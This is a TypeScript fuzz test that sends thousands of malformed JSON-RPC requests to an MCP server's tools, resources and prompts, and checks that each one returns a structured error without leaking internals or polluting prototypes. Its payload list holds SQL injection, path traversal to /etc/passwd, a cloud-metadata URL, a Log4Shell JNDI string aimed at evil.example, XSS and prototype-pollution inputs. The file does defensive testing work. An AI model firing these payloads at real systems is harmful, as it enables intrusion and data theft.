import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { heapUsed } from '../../support/setup/heap.ts';
import { keyOf, send } from './endpoint.ts';
import { type Stage, startStage } from './stage.ts';

const seed = Number(process.env.ARMATURE_FUZZ_SEED ?? 20261121);
const total = 5000;
const measuredFrom = 1000;

/** Mulberry32: small, and the same everywhere. */
function random(from: number): () => number {
  let state = from >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}
const next = random(seed);
const pick = <T>(from: readonly T[]): T => {
  const found = from[Math.floor(next() * from.length)];
  if (found === undefined) throw new Error('nothing to pick from');
  return found;
};
const nested = (depth: number): unknown =>
  depth === 0 ? null : next() < 0.5 ? [nested(depth - 1)] : { a: nested(depth - 1) };
const cursor = (...parts: unknown[]) => Buffer.from(JSON.stringify(parts)).toString('base64url');
const uuid = '019bd5a3-1111-7111-8111-111111111111';

const hostile: (() => unknown)[] = [
  () => null,
  () => true,
  () => 0,
  () => -1,
  () => 1e308,
  () => 2 ** 53,
  () => 0.1,
  () => '',
  () => ' ',
  () => 'x'.repeat(Math.floor(next() * 50_000)),
  () => '\u0000',
  () => `a\u0000b`,
  () => '\ud800',
  () => '\u202e\u2066 right to left',
  () => '__proto__',
  () => 'constructor',
  () => `'; DROP TABLE "Run"; --`,
  () => `" OR 1=1 --`,
  () => '%_\\',
  () => '../../../../etc/passwd',
  () => '..%2f..%2fetc%2fpasswd',
  () => 'file:///etc/passwd',
  () => 'http://169.254.169.254/latest/meta-data',
  () => '$\u007bjndi:ldap://evil.example/a}',
  () => '{{run.id}}',
  () => '<script>alert(1)</script>',
  () => '0000-01-01T00:00:00Z',
  () => '9999-12-31T23:59:59Z',
  () => '+275760-09-13T00:00:00.000Z',
  () => '2026-02-30T00:00:00Z',
  () => uuid,
  () => uuid.toUpperCase(),
  () => '00000000-0000-0000-0000-000000000000',
  () => 'ffffffff-ffff-ffff-ffff-ffffffffffff',
  () => cursor('0000-01-01T00:00:00.000Z', uuid),
  () => cursor('2026-01-01T00:00:00.000Z', "' OR 1=1"),
  () => cursor(),
  () => 'bm90IGEgY3Vyc29y',
  () => [],
  () => ({}),
  () => Array.from({ length: 1000 }, () => 1),
  () => nested(50),
  () => JSON.parse('{"__proto__": {"polluted": true}}'),
  () => ({ toString: 1, valueOf: null, hasOwnProperty: 'x' }),
  () => ({ constructor: { prototype: { polluted: true } } }),
];

/** The value with something in it replaced, added or taken away. */
function spoiled(value: unknown, depth = 0): unknown {
  if (next() < 0.25 || typeof value !== 'object' || value === null) return pick(hostile)();
  if (Array.isArray(value)) return value.map((item, index) => (index === 0 ? spoiled(item, depth + 1) : item));
  const entries = Object.entries(value);
  const [name, inner] = entries.length > 0 ? pick(entries) : ['a', null];
  const act = next();
  if (act < 0.15) return Object.fromEntries(entries.filter(([key]) => key !== name));
  if (act < 0.3)
    return { ...value, [pick(['__proto__', 'constructor', 'limit', 'x\u0000', 'cursor', 'wait'])]: pick(hostile)() };
  return { ...value, [name]: spoiled(inner, depth + 1) };
}

type Message = { method: string; params: unknown };

/** Requests that would work, of every method. */
function sound(stage: Stage, proposalId: string): Message[] {
  const { workflowId, versionId, serverId, passedRunId, failedRunId } = stage;
  const call = (name: string, args: object): Message => ({ method: 'tools/call', params: { name, arguments: args } });
  const changes = {
    name: 'Renamed',
    description: 'Other words',
    prompt: 'call get_shop_status {}',
    testerModels: ['builtin/scripted'],
    judgeModel: 'builtin/assertions',
    schedule: '0 9 * * *',
    timezone: 'Europe/Berlin',
    toolPolicy: { allowedTools: ['get_order'], blockedTools: ['refund_order'] },
    limits: { turns: 5 },
    criteria: [
      { op: 'add', position: 0, text: 'no tool call fails', isRequired: true },
      { op: 'move', position: 0, toPosition: 1 },
    ],
  };
  const definition = { ...changes, serverId, criteria: [{ text: 'no tool call fails', isRequired: true }] };
  return [
    call('search_runs', {
      workflowId,
      serverId,
      status: 'fail',
      trigger: 'manual',
      limit: 5,
      before: '2030-01-01T00:00:00Z',
      after: '2020-01-01T00:00:00Z',
    }),
    call('search_runs', { limit: 1, cursor: cursor('2026-01-01T00:00:00.000Z', uuid) }),
    call('inspect_run', { runId: failedRunId, telemetry: { intent: 'to see' } }),
    call('diagnose_run', { runId: failedRunId }),
    call('get_org_health', { range: '24h' }),
    call('list_workflows', { serverId, state: 'active', search: 'mug', limit: 5, status: 'fail' }),
    call('list_mcp_servers', { search: 'shop', archived: false }),
    call('compare_runs', { baselineRunId: passedRunId, candidateRunId: failedRunId }),
    call('propose_workflow_patch', {
      workflowId,
      baseVersionId: versionId,
      rationale: 'Because',
      changes,
      evidence: [failedRunId],
    }),
    call('propose_workflow_patch', { serverId, definition, rationale: 'Because' }),
    call('draft_regression_workflow_from_run', { runId: failedRunId, name: 'Pinned', rationale: 'Because' }),
    call('apply_workflow_change', { proposalId }),
    call('run_workflow_now', {
      workflowId,
      reason: 'Again',
      idempotencyKey: 'once',
      modelId: 'builtin/scripted',
      baselineRunId: failedRunId,
      waitSeconds: 1,
    }),
    call('sync_mcp_server_capabilities', { serverId }),
    { method: 'resources/read', params: { uri: `armature://runs/${failedRunId}/trace` } },
    { method: 'resources/read', params: { uri: `armature://workflows/${workflowId}?x=1` } },
    { method: 'resources/list', params: {} },
    { method: 'prompts/get', params: { name: 'repair_failing_workflow', arguments: { runId: failedRunId } } },
    { method: 'prompts/get', params: { name: 'design_workflow_suite', arguments: { serverId, goal: 'all' } } },
    {
      method: 'completion/complete',
      params: {
        ref: { type: 'ref/resource', uri: 'armature://runs/{id}/trace' },
        argument: { name: 'id', value: '0' },
      },
    },
    { method: 'tools/list', params: { cursor: 'x' } },
    {
      method: 'initialize',
      params: { protocolVersion: '2025-11-25', capabilities: {}, clientInfo: { name: 'a', version: '1' } },
    },
    { method: 'server/discover', params: {} },
    { method: 'logging/setLevel', params: { level: 'debug' } },
  ];
}

function bodyOf(messages: readonly Message[]): string {
  const { method, params } = pick(messages);
  const kind = next();
  if (kind < 0.04)
    return pick([
      '',
      '{',
      '[]',
      '"x"',
      'null',
      '\u0000',
      '[1,2',
      `${'['.repeat(5000)}`,
      `{"a":${'{"a":'.repeat(200)}1${'}'.repeat(201)}`,
      '{"jsonrpc":"2.0"}',
    ]);
  const message = { jsonrpc: '2.0', id: 1, method, params: kind < 0.85 ? spoiled(params) : params };
  if (kind < 0.95) return JSON.stringify(message);
  return JSON.stringify(spoiled(message));
}

const answered = z.union([
  z.object({ jsonrpc: z.literal('2.0'), result: z.record(z.string(), z.unknown()) }),
  z.object({
    jsonrpc: z.literal('2.0'),
    error: z.object({ code: z.int(), message: z.string().min(1), data: z.unknown().optional() }),
  }),
]);

let stage: Stage;
beforeAll(async () => {
  stage = await startStage();
});
afterAll(() => stage?.close());

describe(`${total} hostile requests (ARMATURE_FUZZ_SEED=${seed})`, () => {
  it('get structured errors and nothing internal, and leave no memory behind', { timeout: 540_000 }, async () => {
    const key = await keyOf(stage.scenario.org, 'admin');
    const messages = sound(stage, await stage.propose());
    const odd: string[] = [];
    let sent = 0;
    let before = 0;
    const one = async (): Promise<void> => {
      const body = bodyOf(messages);
      const version =
        next() < 0.1
          ? (JSON.stringify(pick(hostile)()) ?? '').replaceAll(/[^\x20-\x7e]/g, '').slice(0, 50)
          : '2025-11-25';
      const answer = await send(stage.endpoint.url, { key, body, headers: { 'mcp-protocol-version': version || 'x' } });
      const read = answered.safeParse(answer.body);
      const noted = answer.status === 202 && answer.body === undefined;
      const fine =
        noted ||
        (answer.status < 500 &&
          read.success &&
          !(
            'error' in read.data &&
            (read.data.error.code === -32603 || read.data.error.message.includes('internal_error'))
          ));
      if (!fine) odd.push(`${answer.status} ${answer.text.slice(0, 400)}\n    to ${body.slice(0, 600)}`);
    };
    while (sent < total) {
      await Promise.all(Array.from({ length: 8 }, one));
      sent += 8;
      if (before === 0 && sent >= measuredFrom) before = heapUsed();
    }
    expect(odd.slice(0, 10)).toEqual([]);
    expect(Object.prototype).not.toHaveProperty('polluted');
    expect(heapUsed() / before).toBeLessThan(1.1);
  });
});
